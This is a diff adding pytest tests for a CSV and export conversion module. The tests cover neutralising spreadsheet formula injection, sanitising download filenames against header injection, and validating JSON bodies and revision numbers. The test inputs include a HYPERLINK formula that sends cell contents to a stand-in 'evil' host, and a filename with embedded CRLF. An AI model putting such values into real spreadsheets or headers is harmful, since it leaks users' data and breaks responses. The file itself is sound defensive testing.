@@ -106,3 +106,46 @@ def test_reports_travel_with_compact_series() -> None:
     assert widget_json["series"] == [
         {"metricId": "sent", "label": "Sent", "at": [1_795_000_000, 1_795_000_060], "values": [0.0, 2.0]}
     ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
+        ("+1", "'+1"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("unknown_user", "unknown_user"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_event_text_never_becomes_a_formula(text: str, cell: str) -> None:
+    assert convert.text_cell(text) == cell
+
+
+def test_a_download_name_cannot_break_its_header() -> None:
+    assert convert.attachment('a"b\r\nc;d.csv') == (
+        "attachment; filename=\"a_b_c_d.csv\"; filename*=UTF-8''a%22b%0D%0Ac%3Bd.csv"
+    )
+    assert (
+        convert.attachment("été.csv")
+        == "attachment; filename=\"_t_.csv\"; filename*=UTF-8''%C3%A9t%C3%A9.csv"
+    )
+
+
+@pytest.mark.parametrize("raw", [b"\xff", b"{", b"[]", b'"text"', b"[" * 10_000])
+def test_a_body_must_be_a_json_object(raw: bytes) -> None:
+    with pytest.raises(convert.ParameterError) as refused:
+        convert.json_body(raw)
+    assert refused.value.parameter == "body"
+
+
+@pytest.mark.parametrize("value", ["abc", None, 1e400, 2**70, -1, True, 1.5])
+def test_a_revision_is_a_whole_number_in_range(value: object) -> None:
+    with pytest.raises(convert.ParameterError) as refused:
+        convert.revision({"revision": value})
+    assert refused.value.parameter == "revision"
+    assert convert.revision({}) == 0 and convert.revision({"revision": 2**63 - 1}) == 2**63 - 1
